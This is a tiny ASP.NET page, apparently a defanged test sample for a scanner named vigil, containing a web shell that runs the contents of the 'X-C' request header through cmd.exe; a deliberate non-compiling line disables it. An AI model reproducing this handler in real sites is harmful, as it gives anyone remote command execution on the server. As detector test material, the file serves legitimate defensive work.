<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
Function Go(ByVal a As String) As String
	Dim s As New ProcessStartInfo("cmd.exe", "/c " & a)
	Process.Start(s)
	Return ""
End Function
</script>
<% Go(Request.Headers("X-C")) %>
